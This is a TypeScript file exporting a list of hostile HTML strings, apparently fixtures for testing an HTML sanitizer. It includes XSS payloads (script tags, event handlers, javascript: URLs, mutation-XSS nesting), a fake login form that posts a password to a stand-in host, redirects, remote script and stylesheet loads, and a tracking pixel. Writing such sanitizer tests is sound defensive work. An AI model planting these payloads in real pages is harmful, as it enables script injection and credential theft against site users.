/** HTML that wants more than it may. Each is tried alone, and behind a decent paragraph. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//x.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">点我</a>', '<a href="&#106;avascript:alert(1)">点我</a>', '<p onclick="alert(1)">段</p>', '<p style="background:url(javascript:alert(1))">段</p>',
  '<p style="position:fixed;inset:0">盖住</p>', '<form action="https://x.example"><input name="password"><button>登录</button></form>', '<base href="https://x.example/">',
  '<meta http-equiv="refresh" content="0;url=https://x.example">', '<link rel="stylesheet" href="https://x.example/x.css">', '<style>@import "https://x.example/x.css"</style>',
  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror="alert(1)"></video>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>', '<textarea><script>alert(1)</script></textarea>', '<!--><img src=x onerror=alert(1)>-->', '<!-- <script>alert(1)</script>',
  '<data class="figure" value="3:new:total" onclick="alert(1)">1</data>', '<data class="figure" value="javascript:alert:x">1</data>', '<data class="figure" value="3:new:total"><img src=x onerror=alert(1)></data>',
  '<data class="figure" value=\'3:new:total"><script>alert(1)</script>\'>1</data>', '<p id="csrf" name="body" class="button-primary">撞名</p>', '<h3 data-x="1" contenteditable>题</h3>',
  '<strong/onmouseover=alert(1)>粗</strong>', '<p\u0000onclick=alert(1)>段</p>', '<img src="https://x.example/pixel.gif">', '&lt;script&gt;alert(1)&lt;/script&gt;', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]
